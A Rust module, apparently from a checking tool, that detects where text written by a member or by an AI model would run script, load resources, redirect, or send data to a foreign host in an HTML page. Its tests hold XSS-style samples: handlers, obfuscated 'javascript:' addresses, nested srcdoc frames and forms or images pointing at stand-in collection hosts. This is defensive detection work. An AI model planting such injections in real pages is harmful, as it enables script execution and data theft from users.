//! What in a page would run, load or send something because of a text that somebody put in.

use super::tree::{Element, Scripting, parse};

/// Who wrote the text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(in crate::checks) enum Author {
    /// A member: they may name an address.
    Member,
    /// The model: what it says may be somebody else's words, and nobody may be led away by it.
    Model,
}

/// A place where a text does something.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(in crate::checks) enum Sink {
    Script,
    Handler,
    ScriptAddress,
    Frame,
    Redirect,
    Base,
    Form,
    Style,
    Load,
    Link,
    Name,
}

impl Sink {
    pub(in crate::checks) const fn words(self) -> &'static str {
        match self {
            Self::Script => "a script element",
            Self::Handler => "an event handler",
            Self::ScriptAddress => "an address that runs as script",
            Self::Frame => "a frame or an object",
            Self::Redirect => "a page that leads away by itself",
            Self::Base => "the address that all others start from",
            Self::Form => "a form that sends to a host of its author's choice",
            Self::Style => "a style",
            Self::Load => "an image or file of a host of its author's choice, which is fetched unasked",
            Self::Link => "a link to a host of its author's choice",
            Self::Name => "a name by which scripts look things up",
        }
    }
}

/// How deep frames within frames are looked into.
const DEEPEST: usize = 3;

/// Everything that a text with this word does in a page, each once. A page is looked at as a browser opens it, and as a
/// script of a page would parse it; so is what stands in a frame of the page as `srcdoc`, which is a page of its own.
pub(in crate::checks) fn sinks(page: &str, word: &str, author: Author) -> Vec<Sink> {
    let mut found = Vec::new();
    collect(page, word, author, 0, &mut found);
    found.sort_unstable();
    found.dedup();
    found
}

fn collect(page: &str, word: &str, author: Author, depth: usize, found: &mut Vec<Sink>) {
    for scripting in [Scripting::On, Scripting::Off] {
        for element in parse(page, scripting) {
            of_element(&element, word, author, found);
            let Some(framed) = framed(&element).filter(|framed| framed.to_lowercase().contains(word)) else {
                continue;
            };
            if depth < DEEPEST {
                collect(framed, word, author, depth + 1, found);
            } else {
                // Nobody frames a text this often unasked.
                found.push(Sink::Frame);
            }
        }
    }
}

/// The page that a frame is given as a text.
fn framed(element: &Element) -> Option<&str> {
    if element.name == "iframe" { element.attribute("srcdoc") } else { None }
}

/// The elements of a page and of the pages in its frames.
fn all_elements(page: &str) -> Vec<Element> {
    let mut elements = Vec::new();
    let mut pages = vec![(page.to_owned(), 0)];
    while let Some((page, depth)) = pages.pop() {
        let found = parse(&page, Scripting::On);
        let inner = found.iter().filter_map(framed).map(|framed| (framed.to_owned(), depth + 1));
        pages.extend(inner.filter(|(_, depth)| *depth <= DEEPEST));
        elements.extend(found);
    }
    elements
}

/// How often the whole of a text stands in a page as a text: in what is read or in an attribute, wherever its lines are broken.
pub(in crate::checks) fn shown_whole(page: &str, text: &str) -> usize {
    let squeezed = |text: &str| text.split_whitespace().collect::<String>();
    let text = squeezed(text);
    if text.is_empty() {
        return 0;
    }
    let elements = all_elements(page);
    let read: String = elements.iter().map(|element| squeezed(&element.text)).collect();
    let held = elements.iter().flat_map(|element| &element.attributes);
    let held = held.filter(|(_, value)| squeezed(value).contains(&text));
    read.matches(&text).count() + held.count()
}

/// Whether a word is all that stands in an element: something was made of what stood around it.
pub(in crate::checks) fn is_rendered(page: &str, word: &str) -> bool {
    all_elements(page).iter().any(|element| element.text.trim() == word)
}

/// How often a text stands in a page, in what is read and in attributes.
pub(in crate::checks) fn shown(page: &str, text: &str) -> usize {
    let elements = parse(page, Scripting::On);
    elements
        .iter()
        .flat_map(|element| {
            std::iter::once(element.text.as_str())
                .chain(element.attributes.iter().map(|(_, value)| value.as_str()))
        })
        .map(|place| place.matches(text).count())
        .sum()
}

/// Whether the text stands in the middle of a script that is the page's own: whether it is data or code there cannot be
/// told from here.
pub(in crate::checks) fn stands_in_script(page: &str, text: &str) -> bool {
    all_elements(page).iter().any(|element| runs(element) && element.text.contains(text))
}

/// Whether a browser would run what stands in it.
fn runs(element: &Element) -> bool {
    let kind = element.attribute("type").unwrap_or_default().trim().to_lowercase();
    element.name == "script"
        && (kind.is_empty() || kind == "module" || kind.contains("javascript") || kind.contains("ecmascript"))
}

fn of_element(element: &Element, word: &str, author: Author, found: &mut Vec<Sink>) {
    let holds = |text: &str| text.to_lowercase().contains(word);
    let name = element.name.as_str();
    // Code of the text's own; within other code it may be data.
    if runs(element) && element.text.trim().to_lowercase().starts_with(&format!("{word}(")) {
        found.push(Sink::Script);
    }
    if name == "style" && holds(&element.text) {
        found.push(Sink::Style);
    }
    for (attribute, value) in &element.attributes {
        if !holds(value) {
            continue;
        }
        let foreign = value
            .split([',', ' ', '\n', '\t'])
            .chain([value.as_str()])
            .any(|address| leads_to(address, word));
        let sink = match (name, attribute.as_str()) {
            (_, handler) if handler.starts_with("on") => Some(Sink::Handler),
            (_, "style") => Some(Sink::Style),
            (_, "id" | "name") if value.to_lowercase() == word => Some(Sink::Name),
            ("meta", "content") if is_refresh(element) => Some(Sink::Redirect),
            (_, "href" | "src" | "action" | "formaction" | "data" | "poster" | "to" | "values" | "from")
                if runs_as_script(value) =>
            {
                Some(Sink::ScriptAddress)
            }
            ("base", "href") if foreign => Some(Sink::Base),
            ("script", "src" | "href") if foreign => Some(Sink::Script),
            ("iframe" | "frame" | "embed" | "object", "src" | "data") if foreign => Some(Sink::Frame),
            (_, "action" | "formaction") if foreign => Some(Sink::Form),
            ("link", "href") if foreign => Some(Sink::Style),
            ("a" | "area", "href") if foreign && author == Author::Model => Some(Sink::Link),
            ("a" | "area", "href") => None,
            (_, "src" | "srcset" | "poster" | "background" | "href" | "ping" | "imagesrcset") if foreign => {
                Some(Sink::Load)
            }
            _ => None,
        };
        found.extend(sink);
    }
}

fn is_refresh(element: &Element) -> bool {
    element.attribute("http-equiv").is_some_and(|kind| kind.trim().eq_ignore_ascii_case("refresh"))
}

/// As a browser reads it: white space in front and line breaks within do not count.
fn tidy(address: &str) -> String {
    let start = address.trim_start_matches(|c: char| c <= ' ');
    start.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect::<String>().to_lowercase()
}

fn runs_as_script(address: &str) -> bool {
    let address = tidy(address);
    [
        "javascript:",
        "vbscript:",
        "data:text/html",
        "data:image/svg",
        "data:application/xhtml",
        "data:text/xml",
    ]
    .iter()
    .any(|scheme| address.starts_with(scheme))
}

/// Whether an address leads to a host with this word.
fn leads_to(address: &str, word: &str) -> bool {
    let address = tidy(address);
    let rest = address.strip_prefix("https:").or_else(|| address.strip_prefix("http:")).unwrap_or(&address);
    let Some(rest) = rest.strip_prefix(['/', '\\']).and_then(|rest| rest.strip_prefix(['/', '\\'])) else {
        return false;
    };
    rest.split(['/', '\\', '?', '#']).next().is_some_and(|host| host.contains(word))
}

#[cfg(test)]
mod tests {
    use super::{Author, Sink, is_rendered, shown, shown_whole, sinks, stands_in_script};

    fn of(page: &str) -> Vec<Sink> {
        sinks(page, "zqw", Author::Member)
    }

    #[test]
    fn what_runs_loads_or_sends_is_found() {
        for (page, sink) in [
            ("<script>zqw()</script>", Sink::Script),
            ("<script src=//zqw.collect.example/a.js></script>", Sink::Script),
            ("<b OnClick='zqw()'>", Sink::Handler),
            ("<a href='\u{1} jAva\tscript:zqw()'>", Sink::ScriptAddress),
            ("<svg><animate to='javascript:zqw()'>", Sink::ScriptAddress),
            ("<iframe srcdoc='<script>zqw()</script>'>", Sink::Script),
            ("<iframe srcdoc='&lt;b onclick=zqw()&gt;'>", Sink::Handler),
            ("<iframe srcdoc='<iframe srcdoc=&quot;<img src=//zqw.example>&quot;>'>", Sink::Load),
            ("<iframe src='https://zqw.collect.example'>", Sink::Frame),
            ("<meta http-equiv=Refresh content='0;url=//zqw.example'>", Sink::Redirect),
            ("<base href=https://zqw.collect.example>", Sink::Base),
            ("<form action=https:\\\\zqw.collect.example>", Sink::Form),
            ("<style>a{}zqw</style>", Sink::Style),
            ("<p style='zqw'>", Sink::Style),
            ("<link rel=preload href=//zqw.example>", Sink::Style),
            ("<img src=https://zqw.collect.example/p>", Sink::Load),
            ("<img srcset='a.png 1x, //zqw.example/p 2x'>", Sink::Load),
            ("<svg><image href=//zqw.example>", Sink::Load),
            ("<a id=zqw>", Sink::Name),
        ] {
            assert_eq!(of(page), [sink], "{page}");
        }
        let link = "<a href=https://zqw.collect.example>";
        assert_eq!(sinks(link, "zqw", Author::Model), [Sink::Link]);
    }

    #[test]
    fn what_is_text_is_left_alone() {
        for page in [
            "&lt;script>zqw()&lt;/script>",
            "<p title='<script>zqw()</script>'>zqw()</p>",
            "<textarea><script>zqw()</script></textarea>",
            "<!-- <script>zqw()</script> -->",
            "<script type='application/json'>{\"a\":\"zqw()\"}</script>",
            "<script>run()</script><b onclick='other()'>",
            "<a href='/find?q=javascript:zqw()'>",
            "<img src='/face?of=zqw'>",
            "<a href=https://zqw.collect.example>",
            "<form action='/send?to=https://zqw.collect.example'>",
            "<li id='talk-zqw'>",
            "<iframe srcdoc='<p>&amp;lt;script&amp;gt;zqw()&amp;lt;/script&amp;gt;</p>'></iframe>",
            "<iframe srcdoc='zqw'>",
            "<p srcdoc='<script>zqw()</script>'>",
        ] {
            assert_eq!(of(page), [], "{page}");
        }
    }

    #[test]
    fn a_text_is_found_where_it_is_read_and_in_scripts_of_the_page() {
        let page = "<title>zq</title><p title=zq>z&#113;</p><script>let a = 'zq';</script>";
        assert_eq!(shown(page, "zq"), 4);
        assert!(stands_in_script(page, "zq") && !stands_in_script("<p>zq</p>", "zq"));
    }

    #[test]
    fn a_frame_in_a_frame_in_a_frame_is_looked_into_and_no_deeper() {
        let mut page = "zqw".to_owned();
        for _ in 0..=super::DEEPEST {
            page =
                format!("<iframe srcdoc=\"{}\"></iframe>", page.replace('&', "&amp;").replace('"', "&quot;"));
        }
        assert_eq!(of(&page), [Sink::Frame]);
        assert!(stands_in_script("<iframe srcdoc='<script>let a = \"zq\"</script>'>", "zq"));
    }

    #[test]
    fn a_text_is_whole_where_nothing_was_made_of_it_or_taken_out() {
        let text = "[r]: //zqw.example\nseenzqw <b>[r]</b>";
        for page in [
            "<p>[r]: //zqw.example<br>seenzqw &lt;b>[r]&lt;/b></p>",
            "<p>[r]: //zqw.example</p>\n<p>seenzqw &lt;b>[r]&lt;/b></p>",
            "<input value='[r]: //zqw.example seenzqw <b>[r]</b>'>",
            "<iframe srcdoc='<p>[r]: //zqw.example seenzqw &amp;lt;b>[r]&amp;lt;/b>'></iframe>",
        ] {
            assert!(shown_whole(page, text) > 0, "{page}");
        }
        for page in ["<p>seenzqw [r]</p>", "<p>[r]: //zqw.example seenzqw <b>[r]</b></p>", "<p>seenzqw</p>"] {
            assert_eq!(shown_whole(page, text), 0, "{page}");
        }
        assert_eq!(shown_whole("<p>a</p>", " "), 0);
        assert!(is_rendered("<p>seenzqw <b>zqw</b></p>", "zqw"));
        assert!(
            !is_rendered("<p>seenzqw &lt;b>zqw&lt;/b></p>", "zqw")
                && !is_rendered("<p>seenzqw zqw</p>", "zqw")
        );
    }
}
